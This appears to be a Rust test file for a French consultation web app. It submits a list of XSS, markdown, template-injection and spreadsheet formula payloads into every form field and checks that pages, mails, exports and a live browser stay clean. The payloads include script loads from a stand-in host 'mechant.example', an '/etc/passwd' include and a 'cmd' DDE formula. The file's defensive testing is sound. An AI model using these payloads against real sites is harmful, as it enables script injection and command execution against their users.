//! Words that break programs: scripts, markup, formulas, lines within lines, signs of every script. Whatever is typed, every
//! page, title, mail and table stays what it was, and what was taken is shown as it was typed.

use std::collections::BTreeMap;

use actix_web::http::Method;
use concerto::config::Config;
use concerto::domain::limits::Rate;
use concerto::mail;
use concerto::model::{Language, Letter};
use concerto::web::routes::ROUTES;
use scraper::{Html, Selector};

use super::crawl::Crawl;
use crate::routes_matrix::samples::sample;
use crate::routes_matrix::world::World;
use crate::support::chrome::{Chrome, Look};
use crate::support::command::concerto;
use crate::support::house::{Browser, House, SLUG};
use crate::support::need::{self, Need};

/// Ways to bring a script, a link or a form of one's own into a page, in HTML and in Markdown.
pub const SCRIPTS: [&str; 36] = [
    "<script>top.pris=1</script>",
    "<ScRiPt src=//mechant.example/x.js></sCrIpT>",
    "\"><script>top.pris=1</script>",
    "'><img src=x onerror=top.pris=1>",
    "</title><script>top.pris=1</script>",
    "</textarea><script>top.pris=1</script>",
    "--><script>top.pris=1</script>",
    "<img src=x onerror=\"top.pris=1\">",
    "<svg onload=top.pris=1>",
    "<svg><script>top.pris=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=top.pris=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=top.pris=1>\">",
    "<iframe srcdoc=\"<script>top.pris=1</script>\"></iframe>",
    "<object data=\"javascript:top.pris=1\"></object>",
    "<base href=//mechant.example/>",
    "<meta http-equiv=refresh content=\"0;url=//mechant.example\">",
    "<link rel=stylesheet href=//mechant.example/x.css>",
    "<form action=//mechant.example><button>Voter</button></form>",
    "<input autofocus onfocus=top.pris=1>",
    "<details open ontoggle=top.pris=1>",
    "<a href=\"javascript:top.pris=1\">ici</a>",
    "<a href=\"jav&#x09;ascript:top.pris=1\">ici</a>",
    "<style>*{background:url(//mechant.example)}</style>",
    "<div style=\"position:fixed;inset:0\">tout</div>",
    "[ici](javascript:top.pris=1)",
    "[ici](JaVaScRiPt&colon;top.pris=1)",
    "[ici](data:text/html;base64,PHNjcmlwdD4=)",
    "[ici](vbscript:top.pris=1)",
    "![image](x\" onerror=\"top.pris=1)",
    "![image](https://mechant.example/pixel.png)",
    "<javascript:top.pris=1>",
    "[ici][un]\n\n[un]: javascript:top.pris=1 \"titre\"",
    "```html\n</code></pre><script>top.pris=1</script>\n```",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% include \"/etc/passwd\" %}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

/// The strings of the list that npm keeps, when this run has them; of a short run every fifth.
fn strings() -> Vec<String> {
    let mut all: Vec<String> = SCRIPTS.iter().map(|text| (*text).to_owned()).collect();
    if let Some(file) = Need::Strings.place() {
        let listed: Vec<String> = serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
        assert_eq!(listed.len(), 485, "the list is whole");
        all.extend(listed);
    }
    all
}

/// No limit that a test of many texts meets.
fn unlimited(config: &mut Config) {
    let rate = Rate { most: 1_000_000, minutes: 1 };
    let limits = &mut config.limits;
    (limits.proposals, limits.comments, limits.reports, limits.invitations) = (rate, rate, rate, rate);
    (limits.sign_ins_by_email, limits.sign_ins_by_network, limits.failures_by_network) = (rate, rate, rate);
}

/// What an element of a page must not be or hold.
pub fn strange(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let mut found = Vec::new();
    for element in page.select(&Selector::parse("*").unwrap()) {
        let it = element.value();
        let own = |name: &str| {
            it.attr(name).is_none_or(|to| to.starts_with('/') && !to.starts_with("//") || to.starts_with("data:image/"))
        };
        let is_own = match it.name() {
            "script" => it.attr("src").is_some() && own("src") && element.text().collect::<String>().trim().is_empty(),
            "img" | "source" => own("src"),
            "link" => own("href"),
            "form" => own("action") || it.attr("action") == Some(""),
            "iframe" | "object" | "embed" | "base" | "style" | "math" | "frame" | "applet" => false,
            "meta" => it.attr("http-equiv").is_none(),
            _ => true,
        };
        let leads = |(name, value): (&str, &str)| {
            let value: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            let way = value.to_lowercase();
            matches!(name, "href" | "action" | "formaction" | "xlink:href")
                && ["javascript:", "data:", "vbscript:", "//"].iter().any(|start| way.starts_with(start))
        };
        let acts = it.attrs().any(|(name, value)| name.starts_with("on") || name == "style" || leads((name, value)));
        if !is_own || acts {
            found.push(format!("{it:?}"));
        }
    }
    found
}

/// Panics unless the page holds nothing but what the site puts into it.
fn is_clean(browser: &Browser, said: &str) {
    assert!(browser.status < 500, "{}: {} after {said:?}", browser.path, browser.status);
    let kind = browser.headers.get("content-type").map(|kind| kind.to_str().unwrap().to_owned()).unwrap_or_default();
    if kind.starts_with("text/html") {
        let found = strange(&browser.html);
        assert!(found.is_empty(), "{} after {said:?}: {found:?}", browser.path);
    }
}

/// Every mail that waits, in words: one line of subject, HTML without anything of its own.
fn mails_are_clean(house: &House) {
    for letter in house.texts("SELECT letter AS t FROM outbox ORDER BY id") {
        let letter: Letter = serde_json::from_str(&letter).unwrap();
        for language in [Language::Fr, Language::En] {
            let message = mail::render(&letter, language, &house.app.config).unwrap();
            assert!(!message.subject.chars().any(char::is_control), "{:?}", message.subject);
            let html = message.html.replace(&house.address, "").replace("http://127.0.0.1:0", "");
            let page = Html::parse_document(&html);
            let count = |selector: &str| page.select(&Selector::parse(selector).unwrap()).count();
            assert_eq!(
                count("script, iframe, object, embed, form, base, img, svg, [onerror], [onload], [onfocus]"),
                0,
                "{html}"
            );
            assert_eq!(count("a[href^='javascript' i], a[href^='data' i], a[href*='mechant']"), 0, "{html}");
        }
    }
}

/// How many cells a table has, of none of which a spreadsheet makes a formula.
fn plain_cells(csv: &[u8]) -> usize {
    let mut reader = ::csv::ReaderBuilder::new().flexible(true).from_reader(csv);
    let mut cells = 0;
    for record in reader.records() {
        for cell in &record.unwrap() {
            let is_number = cell.replace(',', ".").parse::<f64>().is_ok();
            assert!(is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            cells += 1;
        }
    }
    cells
}

/// Puts one string into every text that a member writes, and into those of the moderator who answers; tells which were taken.
async fn says(alice: &mut Browser, maud: &mut Browser, text: &str, n: usize) -> [bool; 3] {
    let key = format!("k{n}");
    let proposals = format!("/concertations/{SLUG}/propositions");
    let fields = [
        ("axe", "1"),
        ("titre", text),
        ("phrase", text),
        ("texte", text),
        ("langue", "fr"),
        ("proches", "vues"),
        ("key", &key),
    ];
    let proposal = alice.post(&proposals, &fields).await.pressed;
    is_clean(alice, text);
    let fields = [("cote", "for"), ("texte", text), ("langue", "fr"), ("key", &key)];
    let comment = alice.post(&format!("{proposals}/1/commentaires"), &fields).await.pressed;
    is_clean(alice, text);
    let fields = [("given_name", text), ("family_name", text), ("quality", text), ("organisation", text)];
    let name = alice.post("/mon-espace/profil", &fields).await.pressed;
    is_clean(alice, text);
    let fields = [("clause", "1"), ("texte", text), ("key", &key)];
    maud.post(&format!("{proposals}/1/commentaires/{}/signalement", n + 1), &fields).await;
    is_clean(maud, text);
    maud.post(&format!("/concertations/{SLUG}/moderation/propositions/1/notes"), &[("note", text), ("key", &key)])
        .await;
    is_clean(maud, text);
    let search = percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC);
    maud.open(&format!("/concertations/{SLUG}/recherche?q={search}")).await;
    is_clean(maud, text);
    assert!(
        [proposal, comment, name].iter().all(|status| [303, 422].contains(status)),
        "{text:?}: {proposal} {comment} {name}"
    );
    [proposal == 303, comment == 303, name == 303]
}

/// A string as a browser tells a line of it: blanks joined, apostrophes straight.
fn line(text: &str) -> String {
    text.replace('’', "'").split_whitespace().collect::<Vec<_>>().join(" ")
}

#[actix_web::test]
async fn every_string_is_shown_as_it_was_typed() {
    let house = House::on_sqlite_with(unlimited).await;
    house.has_consultation().await;
    let seat = house.seat("alice", "patients");
    house.proposal(seat, "La première");
    let (mut alice, mut maud) = (house.browser_of(seat.account), house.in_role("maud", "moderation"));
    let strings = strings();
    let mut taken = [0; 3];
    for (n, text) in strings.iter().enumerate() {
        let took = says(&mut alice, &mut maud, text, n).await;
        taken.iter_mut().zip(took).for_each(|(sum, one)| *sum += usize::from(one));
    }
    assert!(taken[0] > strings.len() / 2 && taken[1] > strings.len() / 2, "{taken:?} of {} were taken", strings.len());
    house.sql("UPDATE proposals SET status = 'published', published_at = submitted_at");
    let (mut guest, mut omar) = (house.guest(), house.in_role("omar", "pilotage"));
    let titles = house.texts("SELECT number || ' ' || title AS t FROM proposals WHERE number > 1 ORDER BY number");
    for title in &titles {
        let (number, title) = title.split_once(' ').unwrap();
        guest.open(&format!("/concertations/{SLUG}/propositions/{number}")).await.is(200);
        is_clean(&guest, title);
        assert_eq!(guest.all("h1").iter().map(|h1| line(h1)).collect::<Vec<_>>(), [line(title)]);
        assert!(guest.all("title").iter().any(|it| line(it).contains(&line(title))), "{title:?}");
    }
    for browser in [&mut guest, &mut alice, &mut maud, &mut omar] {
        let mut crawl = Crawl::from(&[
            "/",
            "/mon-espace",
            &format!("/concertations/{SLUG}"),
            &format!("/concertations/{SLUG}/moderation"),
            &format!("/concertations/{SLUG}/pilotage"),
        ]);
        while let Some(path) = crawl.next() {
            browser.get_with(&path, &[]).await;
            is_clean(browser, "all of them");
            crawl.reads(browser);
        }
    }
    mails_are_clean(&house);
    leaves_in_files(&house).await;
    house.close().await;
}

/// The files that leave with all of it in them.
async fn leaves_in_files(house: &House) {
    let now = house.days(0);
    house.sql(&format!("UPDATE consultations SET results_opened_at = {now}; UPDATE phases SET frozen_at = {now}, closes_at = {now} WHERE id = 2"));
    let folder = tempfile::tempdir().unwrap();
    for format in ["csv", "json", "xlsx", "ods", "docx", "pdf"] {
        let tables = folder.path().join("tables");
        std::fs::create_dir_all(&tables).unwrap();
        let out = if format == "csv" { tables.clone() } else { folder.path().join(format!("out.{format}")) };
        let (url, out) = (house.database_url(), out.display().to_string());
        let arguments = ["export", SLUG, "--format", format, "--scope", "organiser", "--out", &out].map(str::to_owned);
        let ran = tokio::task::spawn_blocking(move || {
            concerto(&url, &arguments.iter().map(String::as_str).collect::<Vec<_>>())
        });
        ran.await.unwrap().done();
    }
    let tables = folder.path().join("tables");
    let entries = std::fs::read_dir(&tables).unwrap().chain(std::fs::read_dir(tables.join("texts")).unwrap());
    let tables: Vec<_> =
        entries.map(|it| it.unwrap().path()).filter(|path| path.extension().is_some_and(|it| it == "csv")).collect();
    assert!(tables.iter().any(|path| path.ends_with("texts/comments.csv")) && tables.len() > 3, "{tables:?}");
    let cells: usize = tables.iter().map(|table| plain_cells(&std::fs::read(table).unwrap())).sum();
    assert!(cells > 10 * strings().len(), "{cells} cells");
}

/// Each field of each form of the table, filled with each script: no fault, nothing on the page that answers, no mail.
#[actix_web::test]
async fn every_field_of_every_form_takes_scripts_for_words() {
    let most = if need::long() { SCRIPTS.len() } else { 4 };
    let mut told = BTreeMap::new();
    for (n, route) in ROUTES.iter().filter(|route| route.method != Method::GET).enumerate() {
        let world = World::over(House::on_sqlite_with(unlimited).await).await;
        let role = ["member", "organiser", "moderator", "guest"]
            .into_iter()
            .max_by_key(|role| {
                [303, 422, 200].contains(
                    &route.expect
                        [["guest", "member", "moderator", "organiser"].iter().position(|it| it == role).unwrap()],
                )
            })
            .unwrap();
        let mut browser = world.browser(role);
        let fields = sample(&world, route).fields;
        for at in 0..fields.len() {
            for (m, script) in SCRIPTS.iter().cycle().skip(n).take(most).enumerate() {
                let key = format!("k{at}-{m}");
                let mut typed: Vec<(&str, &str)> = fields
                    .iter()
                    .map(|(name, value)| (*name, if *name == "key" { key.as_str() } else { value }))
                    .collect();
                typed[at].1 = script;
                browser.post(&sample(&world, route).path, &typed).await;
                is_clean(&browser, script);
                *told.entry(browser.pressed).or_insert(0) += 1;
            }
        }
        mails_are_clean(&world.house);
        world.house.close().await;
    }
    assert!(told.get(&303).is_some_and(|n| *n > 50), "most forms refused everything: {told:?}");
}

/// In a real browser: what was typed runs nowhere, and the browser finds nothing to complain of.
#[actix_web::test]
async fn no_script_runs_in_the_browser() {
    let Some(chrome) = Chrome::start(Look::PHONE).await else { return };
    let house = House::on_sqlite_with(unlimited).await;
    house.has_consultation().await;
    let seat = house.seat("alice", "patients");
    house.proposal(seat, "La première");
    let (mut alice, mut maud) = (house.browser_of(seat.account), house.in_role("maud", "moderation"));
    for (n, text) in SCRIPTS.iter().enumerate() {
        says(&mut alice, &mut maud, text, n).await;
    }
    house.sql("UPDATE proposals SET status = 'published', published_at = submitted_at");
    let last = house.number("SELECT MAX(number) AS n FROM proposals");
    let pages = [
        "propositions",
        "propositions?page=2",
        "propositions/1",
        &format!("propositions/{last}"),
        "membres",
        "recherche?q=%3Cscript%3E",
    ];
    for page in pages {
        chrome.open(&format!("{}/concertations/{SLUG}/{page}", house.address)).await;
        assert!(chrome.evaluate("return top.pris === undefined").await == true, "a script ran on {page}");
        assert_eq!(chrome.console_errors().await, Vec::<String>::new(), "{page}");
        assert_eq!(chrome.too_wide().await, Vec::<String>::new(), "{page}");
    }
    chrome.close().await;
    house.close().await;
}
